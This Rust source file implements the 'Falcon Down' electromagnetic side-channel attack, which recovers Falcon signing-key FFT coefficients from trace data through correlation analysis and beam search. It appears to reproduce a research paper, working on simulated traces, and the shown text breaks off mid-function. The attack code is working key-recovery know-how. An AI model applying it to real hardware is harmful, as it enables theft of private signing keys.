//! The *Falcon Down* differential EM attack.
//!
//! Divide-and-conquer recovery of each `FFT(f)` coefficient (paper
//! §III.B–C): the sign, exponent and mantissa are recovered separately
//! and reassembled. The mantissa halves use the **extend-and-prune**
//! strategy: candidate guesses are scored by correlating against the
//! schoolbook *multiplication* partial products (extend — which by itself
//! produces shift-related false positives), then re-ranked against the
//! intermediate *additions*, whose alignment-sensitive carries eliminate
//! the false positives (prune).
//!
//! Only the prune reads the *other* mantissa half (the additions mix
//! both), so [`recover_coefficient`] extends each half **once** and its
//! alternating cross-half refinement re-runs only the prune.
//!
//! Two extend modes are provided ([`AttackConfig::monolithic_keep`]):
//!
//! * incremental: the secret halves are grown LSB-first in `step_bits`
//!   windows under a beam, exact full recovery with tractable compute
//!   (the low `m` bits of a product depend only on the low `m` bits of
//!   each factor);
//! * monolithic: the paper's one-shot enumeration of a whole window (up
//!   to the full 2^25/2^27 guess space); [`monolithic_correlations`]
//!   produces the correlation matrices behind Figure 4.

use crate::cpa::{CorrMatrix, PearsonSums, SampleSums};
use crate::error::Result;
use crate::exec;
use crate::model::{
    assemble_coefficient, hyp_add_hi, hyp_add_lo, hyp_partial_product, hyp_sign, KnownOperand,
    SecretHalf,
};
use crate::obs;
use crate::source::{ColumnSource, TargetBlock};
use falcon_emsim::StepKind;
use std::sync::{Arc, OnceLock};

/// Fetches one target's column set from a source, panicking on source
/// failure. The resident [`Dataset`](crate::Dataset) implementation is
/// infallible for in-range targets, so the historical non-`Result`
/// attack API stays panic-free there; streamed sources can genuinely
/// fail (I/O), and callers that must handle that use
/// [`try_recover_coefficient`].
fn fetch_block<S: ColumnSource + ?Sized>(src: &S, target: usize) -> TargetBlock<'_> {
    src.target_block(target)
        .unwrap_or_else(|e| panic!("column source failed for target {target}: {e}"))
}

/// Metric handles for the attack hot paths, resolved once. The counters
/// take *bulk* adds at stage granularity (one add per beam level, not
/// per scored candidate) so the instrumentation cost stays invisible
/// next to the Pearson arithmetic it accounts for. (Fan-out accounting
/// lives with the shared executor: see the `exec.*` metrics.)
struct AttackMetrics {
    /// Full Pearson correlations evaluated (one per scored candidate).
    correlations: Arc<obs::Counter>,
    /// The part of `correlations` scored by mantissa extend stages.
    extend: Arc<obs::Counter>,
    /// The part of `correlations` scored by mantissa prune stages.
    prune: Arc<obs::Counter>,
    /// Candidate-set size per extend/prune stage.
    candidates: Arc<obs::Histogram>,
}

impl AttackMetrics {
    /// Accounts one mantissa extend or prune stage (`phase` is
    /// [`extend`](Self::extend) or [`prune`](Self::prune)) of `n` scored
    /// candidates.
    fn stage(&self, phase: &obs::Counter, n: u64) {
        self.candidates.record(n as f64);
        self.correlations.add(n);
        phase.add(n);
    }
}

fn attack_metrics() -> &'static AttackMetrics {
    static M: OnceLock<AttackMetrics> = OnceLock::new();
    M.get_or_init(|| AttackMetrics {
        correlations: obs::counter("attack.correlations"),
        extend: obs::counter("attack.extend_correlations"),
        prune: obs::counter("attack.prune_correlations"),
        candidates: obs::metrics().histogram(
            "attack.candidate_set_size",
            &[16.0, 64.0, 256.0, 1024.0, 4096.0, 16384.0, 65536.0, 262144.0],
        ),
    })
}

/// Tuning knobs for the mantissa recovery.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct AttackConfig {
    /// Bits added per extend level.
    pub step_bits: u32,
    /// Candidates kept after each level.
    pub beam_width: usize,
    /// When non-zero, the mantissa halves are recovered by the paper's
    /// **monolithic** one-shot enumeration — all 2^25 / 2^27 guesses
    /// scored in cache-sized blocks — instead of the incremental beam,
    /// keeping this many top extend candidates for the prune re-rank.
    /// `0` (the default) selects incremental extend-and-prune. Flows
    /// through [`CampaignConfig`](crate::CampaignConfig) unchanged, so a
    /// campaign *is* the paper's full-scale attack when this is set.
    pub monolithic_keep: usize,
}

impl Default for AttackConfig {
    fn default() -> Self {
        AttackConfig { step_bits: 8, beam_width: 64, monolithic_keep: 0 }
    }
}

/// Outcome of recovering one component, with its distinguishing margin.
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct ComponentResult {
    /// The winning guess value.
    pub value: u64,
    /// Correlation of the winner.
    pub corr: f64,
    /// Correlation of the runner-up (distinguishing margin diagnostics).
    pub runner_up: f64,
}

/// Full recovery result for one secret `FFT(f)` value.
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct CoefficientResult {
    /// Reassembled 64-bit coefficient.
    pub bits: u64,
    /// Sign recovery details.
    pub sign: ComponentResult,
    /// Exponent recovery details.
    pub exponent: ComponentResult,
    /// Low mantissa half (25 bits).
    pub mant_lo: ComponentResult,
    /// High mantissa half (28 bits, implicit one included).
    pub mant_hi: ComponentResult,
}

/// The per-trace data needed to score mantissa hypotheses for one
/// target: known operands and the relevant sample columns, the latter
/// **borrowed** straight from the columnar dataset (zero copies on the
/// hot path — one `TargetColumns` is built per mantissa-half recovery
/// and then read by every scored candidate).
struct TargetColumns<'a> {
    /// `(known, sample)` pairs for each product column in use.
    cols: Vec<(Vec<u32>, &'a [f32])>,
    /// Full known operands per occurrence, for exact models.
    knowns: [Vec<KnownOperand>; 2],
    /// Prune-step sample column per occurrence.
    prune: [&'a [f32]; 2],
    /// Top-word accumulation column (`AddHiHi`) per occurrence, the
    /// cross-half prune column.
    extra_prune: [&'a [f32]; 2],
}

fn product_columns<'a>(block: &'a TargetBlock<'a>, half: SecretHalf) -> TargetColumns<'a> {
    let (step_with_lo, step_with_hi, prune_step) = match half {
        SecretHalf::Low => (StepKind::PpLoLo, StepKind::PpLoHi, StepKind::AddLoHi),
        SecretHalf::High => (StepKind::PpHiLo, StepKind::PpHiHi, StepKind::AddHiHi),
    };
    let knowns: [Vec<KnownOperand>; 2] =
        [0, 1].map(|occ| block.known_column(occ).iter().map(|&kb| KnownOperand::new(kb)).collect());
    let mut cols = Vec::with_capacity(4);
    for (occ, kcol) in knowns.iter().enumerate() {
        cols.push((kcol.iter().map(|k| k.lo).collect(), block.sample_column(occ, step_with_lo)));
        cols.push((kcol.iter().map(|k| k.hi).collect(), block.sample_column(occ, step_with_hi)));
    }
    TargetColumns {
        cols,
        knowns,
        prune: [0, 1].map(|occ| block.sample_column(occ, prune_step)),
        extra_prune: [0, 1].map(|occ| block.sample_column(occ, StepKind::AddHiHi)),
    }
}

/// Precomputed candidate-independent sample sums of the prune columns,
/// shared by every candidate in a prune re-rank.
struct PruneSums {
    prune: [SampleSums; 2],
    extra: [SampleSums; 2],
}

impl TargetColumns<'_> {
    /// Sample-side sums of every product column, truncated to
    /// `max_points`, for one extend level: the sample statistics are
    /// candidate-independent, so each beam level accumulates them once
    /// here instead of once per scored candidate.
    fn extend_sums(&self, max_points: usize) -> Vec<SampleSums> {
        self.cols
            .iter()
            .map(|(kn, samples)| SampleSums::new(&samples[..kn.len().min(max_points)]))
            .collect()
    }

    /// Sample-side sums of the prune and cross-half columns.
    fn prune_sums(&self) -> PruneSums {
        PruneSums {
            prune: [0, 1].map(|occ| SampleSums::new(self.prune[occ])),
            extra: [0, 1].map(|occ| SampleSums::new(self.extra_prune[occ])),
        }
    }

    /// Correlation of the partial-product model for `cand` (low `m_bits`
    /// of the secret half) across all product columns, together with the
    /// hypothesis variance (a candidate with near-constant hypotheses is
    /// statistically handicapped in the correlation ranking, not
    /// refuted). `scratch` is the caller's reusable hypothesis buffer —
    /// its prior contents are irrelevant; `sums` must come from
    /// [`extend_sums`](TargetColumns::extend_sums) at the same
    /// `max_points`.
    fn extend_score(
        &self,
        scratch: &mut Vec<f64>,
        cand: u64,
        m_bits: u32,
        full_width: u32,
        max_points: usize,
        sums: &[SampleSums],
    ) -> (f64, f64) {
        // Pearson over the concatenation of all columns, capped at
        // `max_points` per column (intermediate beam levels only need
        // enough statistics to keep the truth alive; the final level and
        // the prune always use the full campaign).
        let mut acc = PearsonSums::default();
        for ((kn, samples), ss) in self.cols.iter().zip(sums) {
            let take = kn.len().min(max_points);
            scratch.clear();
            scratch.extend(
                kn[..take].iter().map(|&k| hyp_partial_product(cand, m_bits, k, full_width)),
            );
            acc.push_column_reusing(scratch, &samples[..take], ss);
        }
        (acc.corr(), acc.hyp_variance())
    }

    /// Correlation of the exact addition (prune) model. For the low half
    /// with a recovered high half available, the top-word accumulation
    /// (`AddHiHi`) joins the score: it mixes both halves and remains
    /// informative even for the degenerate all-zero low half, whose own
    /// partial products are constants.
    fn prune_score(
        &self,
        scratch: &mut Vec<f64>,
        half: SecretHalf,
        cand: u64,
        other_half: Option<u64>,
        sums: &PruneSums,
    ) -> f64 {
        let mut acc = PearsonSums::default();
        for (occ, kn) in self.knowns.iter().enumerate() {
            match half {
                SecretHalf::Low => {
                    scratch.clear();
                    scratch.extend(kn.iter().map(|k| hyp_add_lo(cand, k)));
                    acc.push_column_reusing(scratch, self.prune[occ], &sums.prune[occ]);
                    if let Some(c_hi) = other_half {
                        scratch.clear();
                        scratch.extend(kn.iter().map(|k| hyp_add_hi(c_hi, cand, k)));
                        acc.push_column_reusing(scratch, self.extra_prune[occ], &sums.extra[occ]);
                    }
                }
                SecretHalf::High => {
                    scratch.clear();
                    scratch.extend(kn.iter().map(|k| hyp_add_hi(cand, other_half.unwrap_or(0), k)));
                    acc.push_column_reusing(scratch, self.prune[occ], &sums.prune[occ]);
                }
            }
        }
        acc.corr()
    }
}

fn top_two(scored: &[(u64, f64)]) -> ComponentResult {
    let mut best = (0u64, f64::NEG_INFINITY);
    let mut second = f64::NEG_INFINITY;
    for &(v, c) in scored {
        if c > best.1 {
            second = best.1;
            best = (v, c);
        } else if c > second {
            second = c;
        }
    }
    ComponentResult { value: best.0, corr: best.1, runner_up: second }
}

/// Bit width of a mantissa half (the high half includes the implicit
/// leading one).
fn half_width(half: SecretHalf) -> u32 {
    match half {
        SecretHalf::Low => 25,
        SecretHalf::High => 28,
    }
}

/// The span a mantissa half's extend and prune stages nest under.
fn half_span(half: SecretHalf) -> obs::Span {
    obs::span(match half {
        SecretHalf::Low => "attack.mant_lo",
        SecretHalf::High => "attack.mant_hi",
    })
}

/// One mantissa half after its extend phase: the half's columns and its
/// final candidate set. Extend never reads the other half, so one
/// `Extended` serves every prune round of a coefficient's refinement.
struct Extended<'a> {
    half: SecretHalf,
    tc: TargetColumns<'a>,
    cands: Vec<u64>,
}

impl<'a> Extended<'a> {
    /// Runs the extend phase: `survivors` scores guesses against the
    /// half's product columns and returns the ones it keeps, whose shift
    /// families are then closed.
    fn new(
        block: &'a TargetBlock<'a>,
        half: SecretHalf,
        survivors: impl FnOnce(&TargetColumns<'a>) -> Vec<u64>,
    ) -> Self {
        let _half = half_span(half);
        let _span = obs::span("attack.extend");
        let tc = product_columns(block, half);
        let cands = shift_family_closure(&survivors(&tc), half_width(half), half);
        Extended { half, tc, cands }
    }

    /// Prune phase: re-ranks the candidate set against the intermediate
    /// additions, the only model that reads `other_half`.
    fn prune(&self, other_half: Option<u64>) -> ComponentResult {
        let _half = half_span(self.half);
        let _span = obs::span("attack.prune");
        let m = attack_metrics();
        m.stage(&m.prune, self.cands.len() as u64);
        let psums = self.tc.prune_sums();
        let scores = exec::map_with(&self.cands, Vec::new, |scratch, &c| {
            self.tc.prune_score(scratch, self.half, c, other_half, &psums)
        });
        let scored: Vec<(u64, f64)> = self.cands.iter().copied().zip(scores).collect();
        top_two(&scored)
    }
}

/// Recovers one mantissa half by incremental extend-and-prune.
///
/// Generic over [`ColumnSource`]: the resident
/// [`Dataset`](crate::Dataset) and the out-of-core
/// [`StreamedDataset`](crate::stream::StreamedDataset) score
/// identically (the kernels consume whole columns in a fixed order).
/// Panics if the source fails to produce the target's columns.
pub fn recover_mantissa_half<S: ColumnSource + ?Sized>(
    src: &S,
    target: usize,
    half: SecretHalf,
    other_half: Option<u64>,
    cfg: &AttackConfig,
) -> ComponentResult {
    recover_mantissa_half_block(&fetch_block(src, target), half, other_half, cfg)
}

/// Block-level core of [`recover_mantissa_half`]: scores against an
/// already-fetched column set, so multi-component recoveries fetch a
/// streamed target once instead of once per component.
pub fn recover_mantissa_half_block(
    block: &TargetBlock<'_>,
    half: SecretHalf,
    other_half: Option<u64>,
    cfg: &AttackConfig,
) -> ComponentResult {
    Extended::new(block, half, |tc| beam_survivors(tc, half, cfg)).prune(other_half)
}

/// The incremental extend: grows the half LSB-first in `step_bits`
/// windows, keeping the best `beam_width` candidates of each level plus
/// the low-variance ones the correlation ranking handicaps.
fn beam_survivors(tc: &TargetColumns<'_>, half: SecretHalf, cfg: &AttackConfig) -> Vec<u64> {
    let m = attack_metrics();
    let full_width = half_width(half);
    let mut beam: Vec<u64> = vec![0];
    let mut m_bits = 0u32;
    while m_bits < full_width {
        let next = (m_bits + cfg.step_bits).min(full_width);
        let ext = next - m_bits;
        let mut cands: Vec<u64> = Vec::with_capacity(beam.len() << ext);
        for &b in &beam {
            for e in 0u64..(1 << ext) {
                cands.push(b | (e << m_bits));
            }
        }
        if next == full_width && half == SecretHalf::High {
            // The implicit leading one pins bit 27.
            cands.retain(|c| c >> 27 == 1);
        }
        // Intermediate levels subsample the campaign; the final level is
        // scored on everything.
        let max_points = if next == full_width { usize::MAX } else { 4000 };
        m.stage(&m.extend, cands.len() as u64);
        // Sample-side sums once per level, not once per candidate.
        let col_sums = tc.extend_sums(max_points);
        let scores = exec::map_with(&cands, Vec::new, |scratch, &c| {
            tc.extend_score(scratch, c, next, full_width, max_points, &col_sums)
        });
        // Correlation handicaps candidates with low hypothesis variance
        // (prefixes with trailing zero bits modulate few product bits; an
        // all-zero prefix is entirely constant and unfalsifiable). Keep
        // them alive alongside the correlation ranking rather than let a
        // shift-family impostor evict the truth.
        let mut hvars: Vec<f64> = scores.iter().map(|&(_, v)| v).collect();
        hvars.sort_by(f64::total_cmp);
        let median_hvar = hvars[hvars.len() / 2];
        let mut scored: Vec<(u64, f64, f64)> =
            cands.into_iter().zip(scores).map(|(c, (r, v))| (c, r, v)).collect();
        scored.sort_by(|a, b| b.1.partial_cmp(&a.1).unwrap_or(core::cmp::Ordering::Equal));
        let keep = cfg.beam_width.max(1);
        // Most-handicapped first: a zero-variance candidate (the all-zero
        // prefix) is entirely unfalsifiable and must always survive.
        let mut handicapped: Vec<(u64, f64)> = scored
            .iter()
            .skip(keep)
            .filter(|&&(_, _, v)| v < 0.5 * median_hvar)
            .map(|&(c, _, v)| (c, v))
            .collect();
        handicapped.sort_by(|a, b| a.1.total_cmp(&b.1));
        let mut protected: Vec<u64> = handicapped.into_iter().map(|(c, _)| c).take(keep).collect();
        scored.truncate(keep);
        beam = scored.into_iter().map(|(v, _, _)| v).collect();
        beam.append(&mut protected);
        m_bits = next;
    }
    beam
}

/// The multiplication cannot separate shift families at all: for even
/// `d`, `HW(d·B) = HW((d/2)·B)` exactly, so the extend phase pins down
/// an equivalence class rather than a value (the paper's false
/// positives). Close the class explicitly — add every in-range shift of
/// each survivor — and let the addition decide.
fn shift_family_closure(beam: &[u64], full_width: u32, half: SecretHalf) -> Vec<u64> {
    let mask = (1u64 << full_width) - 1;
    let mut final_set = beam.to_vec();
    for &c in beam {
        for k in 1..full_width {
            final_set.push(c >> k);
            let up = (c << k) & mask;
            if up >> k == c {
                final_set.push(up);
            }
        }
    }
    if half == SecretHalf::High {
        final_set.retain(|c| c >> 27 == 1);
        if final_set.is_empty() {
            final_set = beam.to_vec();
        }
    }
    final_set.sort_unstable();
    final_set.dedup();
    final_set
}

/// The paper's **monolithic** recovery of one mantissa half: a one-shot
/// enumeration of all `2^width` guesses of the half's low window (`rest`
/// supplies the high bits when a narrower window is attacked; `rest = 0`
/// with the full 25/28-bit width is the paper's 2^25/2^27 headline
/// mode), extend-scored in cache-sized blocks, then prune re-ranked.
///
/// Blocking serves the memory hierarchy: within one block the borrowed
/// sample columns stay cache-hot while thousands of hypothesis columns
/// stream past them, and the candidate-independent Σt/Σt² lanes are
/// accumulated once per call rather than once per guess. Blocks are
/// scored through the deterministic executor and merged by a total
/// order (`corr` desc, guess asc), so the result is bit-reproducible
/// across thread counts and SIMD kernels like every other attack path.
///
/// `keep` bounds the survivors handed to the prune step (their shift
/// families are closed first, exactly like the incremental path).
pub fn recover_mantissa_half_monolithic<S: ColumnSource + ?Sized>(
    src: &S,
    target: usize,
    half: SecretHalf,
    other_half: Option<u64>,
    width: u32,
    rest: u64,
    keep: usize,
) -> ComponentResult {
    let block = fetch_block(src, target);
    Extended::new(&block, half, |tc| window_survivors(tc, half, width, rest, keep))
        .prune(other_half)
}

/// The monolithic extend: scores every guess of the window and keeps
/// the top `keep`, plus the unfalsifiable all-zero window.
fn window_survivors(
    tc: &TargetColumns<'_>,
    half: SecretHalf,
    width: u32,
    rest: u64,
    keep: usize,
) -> Vec<u64> {
    let full_width = half_width(half);
    let keep = keep.max(1);
    // Monolithic scoring always uses the whole campaign: one shot is the
    // point.
    let col_sums = tc.extend_sums(usize::MAX);
    const BLOCK: u64 = 4096;
    let total = 1u64 << width;
    let blocks: Vec<u64> = (0..total.div_ceil(BLOCK)).collect();
    let m = attack_metrics();
    m.stage(&m.extend, total);
    let block_tops = exec::map_with(&blocks, Vec::new, |scratch: &mut Vec<f64>, &blk| {
        let (start, end) = (blk * BLOCK, (blk * BLOCK + BLOCK).min(total));
        let mut top: Vec<(u64, f64)> = Vec::with_capacity(2 * keep + 1);
        for g in start..end {
            let cand = (rest << width) | g;
            if half == SecretHalf::High && width == full_width && cand >> 27 != 1 {
                // The implicit leading one pins bit 27.
                continue;
            }
            let (r, _) =
                tc.extend_score(scratch, cand, full_width, full_width, usize::MAX, &col_sums);
            top.push((cand, r));
            if top.len() == 2 * keep {
                // Keep the block's running top-`keep` under a total
                // order; anything truncated here can never re-enter the
                // global top-`keep`.
                top.sort_by(|a, b| b.1.total_cmp(&a.1).then(a.0.cmp(&b.0)));
                top.truncate(keep);
            }
        }
        top.sort_by(|a, b| b.1.total_cmp(&a.1).then(a.0.cmp(&b.0)));
        top.truncate(keep);
        top
    });
    let mut merged: Vec<(u64, f64)> = block_tops.into_iter().flatten().collect();
    merged.sort_by(|a, b| b.1.total_cmp(&a.1).then(a.0.cmp(&b.0)));
    merged.truncate(keep);
    let mut survivors: Vec<u64> = merged.into_iter().map(|(c, _)| c).collect();
    // The all-zero window predicts constant products — unfalsifiable by
    // the extend score (correlation 0), decidable only by the prune
    // addition. Keep it alive explicitly, like the incremental beam's
    // low-variance protection does.
    let zero_cand = rest << width;
    let zero_plausible = half != SecretHalf::High || width != full_width;
    if zero_plausible && !survivors.contains(&zero_cand) {
        survivors.push(zero_cand);
    }
    survivors
}

/// Recovers the sign bit by correlating the XOR step.
pub fn recover_sign<S: ColumnSource + ?Sized>(src: &S, target: usize) -> ComponentResult {
    let block = fetch_block(src, target);
    attack_metrics().correlations.add(2);
    let mut scratch: Vec<f64> = Vec::with_capacity(block.traces());
    let mut scored = Vec::with_capacity(2);
    for guess in 0u32..2 {
        let mut sums = PearsonSums::default();
        for occ in 0..2 {
            let knowns = block.known_column(occ);
            scratch.clear();
            scratch.extend(knowns.iter().map(|&kb| hyp_sign(guess, &KnownOperand::new(kb))));
            sums.push_column(&scratch, block.sample_column(occ, StepKind::SignXor));
        }
        scored.push((guess as u64, sums.corr()));
    }
    // The correct sign yields the positive correlation (the wrong one is
    // its mirror image), as the paper observes for Figure 4(e).
    top_two(&scored)
}

/// Jointly recovers the sign bit and the 11-bit biased exponent field
/// given fully recovered mantissa halves.
///
/// A pure CPA on the exponent-addition word alone can alias: two
/// exponent guesses whose predicted words differ only in bits above the
/// known operand's (narrow) exponent spread produce hypothesis series
/// that differ by a constant, to which Pearson correlation is blind.
/// Scoring the candidates against the operand-fetch word as well — where
/// every secret bit is XOR-combined with *varying* known bits — breaks
/// the tie exactly, so the joint recovery scores each `(sign, exponent)`
/// pair with the exact micro-op models of the `OperandLoad`,
/// `ExponentAdd` and `SignXor` steps together.
pub fn recover_sign_exponent<S: ColumnSource + ?Sized>(
    src: &S,
    target: usize,
    c_hi: u64,
    d_lo: u64,
) -> (ComponentResult, ComponentResult) {
    recover_sign_exponent_block(&fetch_block(src, target), c_hi, d_lo)
}

/// Block-level core of [`recover_sign_exponent`].
pub fn recover_sign_exponent_block(
    block: &TargetBlock<'_>,
    c_hi: u64,
    d_lo: u64,
) -> (ComponentResult, ComponentResult) {
    let _span = obs::span("attack.sign_exp");
    attack_metrics().correlations.add(2 * 2046);
    let mantissa = ((c_hi & 0x7FF_FFFF) << 25) | d_lo;
    // Per-(trace, occurrence) precomputation of everything that does not
    // depend on the (sign, exponent) guess — struct-of-arrays, so the
    // per-candidate scoring runs `push_column` tiles over contiguous
    // hypothesis and sample series.
    let pre_len = 2 * block.traces();
    let mut load_low_hw: Vec<u32> = Vec::with_capacity(pre_len);
    let mut rot_top: Vec<u32> = Vec::with_capacity(pre_len);
    let mut exp_base: Vec<i32> = Vec::with_capacity(pre_len);
    let mut k_sign: Vec<u32> = Vec::with_capacity(pre_len);
    let mut s_load: Vec<f32> = Vec::with_capacity(pre_len);
    let mut s_exp: Vec<f32> = Vec::with_capacity(pre_len);
    let mut s_sign: Vec<f32> = Vec::with_capacity(pre_len);
    for occ in 0..2 {
        s_load.extend_from_slice(block.sample_column(occ, StepKind::OperandLoad));
        s_exp.extend_from_slice(block.sample_column(occ, StepKind::ExponentAdd));
        s_sign.extend_from_slice(block.sample_column(occ, StepKind::SignXor));
        for &kb in block.known_column(occ) {
            let k = KnownOperand::new(kb);
            let rot = kb.rotate_left(32);
            let mant_mask = (1u64 << 52) - 1;
            // Carry from the exactly-known mantissa pipeline.
            let words = crate::model::step_words(
                crate::model::assemble_coefficient(0, 1023, c_hi, d_lo),
                &k,
            );
            let zu = words[StepKind::StickyFold as usize];
            let carry = (zu >> 55) as i32;
            load_low_hw.push(((mantissa ^ rot) & mant_mask).count_ones());
            rot_top.push((rot >> 52) as u32);
            exp_base.push(k.exp as i32 - 2100 + carry);
            k_sign.push(k.sign);
        }
    }
    let cands: Vec<(u32, u32)> =
        (0u32..2).flat_map(|sign| (1u32..2047).map(move |ef| (sign, ef))).collect();
    // The three sample columns are shared by all 2×2046 candidates:
    // accumulate their Σt/Σt² lanes once.
    let (load_sums, exp_sums, sign_sums) =
        (SampleSums::new(&s_load), SampleSums::new(&s_exp), SampleSums::new(&s_sign));
    let scores = exec::map_with(&cands, Vec::new, |scratch: &mut Vec<f64>, &(sign, ef)| {
        let top = (sign << 11) | ef;
        let mut sums = PearsonSums::default();
        scratch.clear();
        scratch.extend(
            load_low_hw
                .iter()
                .zip(&rot_top)
                .map(|(&lhw, &rt)| (lhw + (top ^ rt).count_ones()) as f64),
        );
        sums.push_column_reusing(scratch, &s_load, &load_sums);
        scratch.clear();
        scratch.extend(exp_base.iter().map(|&eb| ((eb + ef as i32) as u32).count_ones() as f64));
        sums.push_column_reusing(scratch, &s_exp, &exp_sums);
        scratch.clear();
        scratch.extend(k_sign.iter().map(|&ks| (sign ^ ks) as f64));
        sums.push_column_reusing(scratch, &s_sign, &sign_sums);
        sums.corr()
    });
    let scored: Vec<(u64, f64)> = cands
        .into_iter()
        .zip(scores)
        .map(|((sign, ef), c)| (crate::model::assemble_coefficient(sign, ef, c_hi, d_lo), c))
        .collect();
    let best = top_two(&scored);
    let bits = best.value;
    let sign = ComponentResult { value: bits >> 63, ..best };
    let exponent = ComponentResult { value: (bits >> 52) & 0x7FF, ..best };
    (sign, exponent)
}

/// Attacker-side confidence in an assembled coefficient: the Pearson
/// correlation of the exact all-steps model against every recorded
/// sample of the coefficient's two multiplications. Correct recoveries
/// score near the channel's SNR ceiling; a wrong mantissa or exponent
/// drags the score down measurably.
pub fn coefficient_confidence<S: ColumnSource + ?Sized>(src: &S, target: usize, bits: u64) -> f64 {
    coefficient_confidence_block(&fetch_block(src, target), bits)
}

/// Block-level core of [`coefficient_confidence`].
pub fn coefficient_confidence_block(block: &TargetBlock<'_>, bits: u64) -> f64 {
    attack_metrics().correlations.incr();
    let traces = block.traces();
    let mut sums = PearsonSums::default();
    // One flat hypothesis scratch keyed [step][trace]: `step_words` runs
    // once per trace, its Hamming weights are scattered into per-step
    // rows, and each row correlates as a contiguous tile against the
    // borrowed sample column. No per-invocation `Vec<Vec<_>>`.
    let mut hw = vec![0f64; StepKind::COUNT * traces];
    for occ in 0..2 {
        for (i, &kb) in block.known_column(occ).iter().enumerate() {
            let words = crate::model::step_words(bits, &KnownOperand::new(kb));
            for (s, &w) in words.iter().enumerate() {
                hw[s * traces + i] = w.count_ones() as f64;
            }
        }
        for (s, &step) in StepKind::ALL.iter().enumerate() {
            sums.push_column(&hw[s * traces..(s + 1) * traces], block.sample_column(occ, step));
        }
    }
    sums.corr()
}

/// Recovers one full `FFT(f)` coefficient by divide-and-conquer.
///
/// The target's columns are fetched from the source **once** and shared
/// by every component recovery, so a streamed source pays one pass of
/// I/O per coefficient regardless of how many refinement rounds run.
/// Panics on source failure; [`try_recover_coefficient`] is the
/// fallible variant.
pub fn recover_coefficient<S: ColumnSource + ?Sized>(
    src: &S,
    target: usize,
    cfg: &AttackConfig,
) -> CoefficientResult {
    recover_coefficient_block(&fetch_block(src, target), cfg)
}

/// Fallible variant of [`recover_coefficient`] for streamed sources.
///
/// # Errors
///
/// Propagates the source's [`target_block`](ColumnSource::target_block)
/// failure.
pub fn try_recover_coefficient<S: ColumnSource + ?Sized>(
    src: &S,
    target: usize,
    cfg: &AttackConfig,
) -> Result<CoefficientResult> {
    Ok(recover_coefficient_block(&src.target_block(target)?, cfg))
}

/// Block-level core of [`recover_coefficient`].
pub fn recover_coefficient_block(block: &TargetBlock<'_>, cfg: &AttackConfig) -> CoefficientResult {
    let _span = obs::span("attack.coefficient");
    // Alternating refinement: each half's *extend* targets are
    // independent of the other half, so each half is extended once. The
    // *prune* additions mix the halves (`zu = C·A + carries(D)`), so the
    // halves are re-pruned with each other's latest estimate until the
    // pair is stable. This also resolves the degenerate all-zero low
    // half, which is invisible to its own products and only betrayed by
    // the cross-half accumulation.
    let extend = |half| {
        Extended::new(block, half, |tc| match cfg.monolithic_keep {
            0 => beam_survivors(tc, half, cfg),
            keep => window_survivors(tc, half, half_width(half), 0, keep),
        })
    };
    let lo_set = extend(SecretHalf::Low);
    let mut mant_lo = lo_set.prune(None);
    let hi_set = extend(SecretHalf::High);
    let mut mant_hi = hi_set.prune(Some(mant_lo.value));
    for _ in 0..2 {
        let lo = lo_set.prune(Some(mant_hi.value));
        let lo_stable = lo.value == mant_lo.value;
        mant_lo = lo;
        if lo_stable {
            // Fixed point: the high half was pruned against this very low
            // half, so re-pruning it would reproduce itself.
            break;
        }
        let hi = hi_set.prune(Some(mant_lo.value));
        let hi_stable = hi.value == mant_hi.value;
        mant_hi = hi;
        if hi_stable {
            break;
        }
    }
    let (sign, exponent) = recover_sign_exponent_block(block, mant_hi.value, mant_lo.value);
    let bits = assemble_coefficient(
        sign.value as u32,
        exponent.value as u32,
        mant_hi.value,
        mant_lo.value,
    );
    CoefficientResult { bits, sign, exponent, mant_lo, mant_hi }
}

/// Recovers every targeted coefficient of the source, fetching each
/// target's columns once.
pub fn recover_all<S: ColumnSource + ?Sized>(
    src: &S,
    cfg: &AttackConfig,
) -> Vec<CoefficientResult> {
    src.targets()
        .to_vec()
        .into_iter()
        .map(|t| recover_coefficient_block(&fetch_block(src, t), cfg))
        .collect()
}

/// Recovers every targeted coefficient with a confidence-guided retry:
/// coefficients whose exact-model confidence falls visibly below the
/// cohort's median — the attacker-side signature of a wrong beam
/// decision — are re-attacked with a wider beam and finer extend steps.
///
/// Returns the results together with each coefficient's final
/// confidence.
pub fn recover_all_verified<S: ColumnSource + ?Sized>(
    src: &S,
    cfg: &AttackConfig,
) -> Vec<(CoefficientResult, f64)> {
    let targets = src.targets().to_vec();
    let mut out: Vec<(CoefficientResult, f64)> = targets
        .iter()
        .map(|&t| {
            let block = fetch_block(src, t);
            let r = recover_coefficient_block(&block, cfg);
            let conf = coefficient_confidence_block(&block, r.bits);
            (r, conf)
        })
        .collect();
    let mut confs: Vec<f64> = out.iter().map(|(_, c)| *c).collect();
    confs.sort_by(f64::total_cmp);
    let median = confs[confs.len() / 2];
    // Robust spread estimate: correct recoveries cluster tightly at the
    // channel's SNR ceiling, so anything well below the cohort is
    // suspect.
    let mut devs: Vec<f64> = confs.iter().map(|c| (c - median).abs()).collect();
    devs.sort_by(f64::total_cmp);
    let mad = devs[devs.len() / 2];
    let cutoff = median - (5.0 * mad).max(0.01);
    let wide = AttackConfig {
        step_bits: cfg.step_bits.saturating_sub(2).max(4),
        beam_width: cfg.beam_width * 8,
        monolithic_keep: cfg.monolithic_keep.saturating_mul(8),
    };
    for (i, &t) in targets.iter().enumerate() {
        if out[i].1 >= cutoff {
            continue;
        }
        let block = fetch_block(src, t);
        let r = recover_coefficient_block(&block, &wide);
        let conf = coefficient_confidence_block(&block, r.bits);
        if conf > out[i].1 {
            out[i] = (r, conf);
        }
    }
    out
}

/// The paper's monolithic window attack: enumerates all `2^width`
/// guesses of the low window of a mantissa half (`rest` supplies the
/// remaining high bits when `width` is scaled down; zero for the full
/// 25/27-bit runs) and returns the correlation matrices of the extend
/// step (multiplication — exhibits false positives) and the prune step
/// (addition — eliminates them), with one time column per micro-op of
/// the first-occurrence multiplication.
pub fn monolithic_correlations<S: ColumnSource + ?Sized>(
    src: &S,
    target: usize,
    half: SecretHalf,
    width: u32,
    rest: u64,
    d_lo_for_high: u64,
) -> (Vec<u64>, CorrMatrix, CorrMatrix) {
    let block = fetch_block(src, target);
    let guesses: Vec<u64> = (0..(1u64 << width)).map(|g| (rest << width) | g).collect();
    let mut extend = CorrMatrix::new(guesses.len(), StepKind::COUNT);
    let mut prune = CorrMatrix::new(guesses.len(), StepKind::COUNT);
    let full_width = half_width(half);
    let wmask = (1u64 << width) - 1;
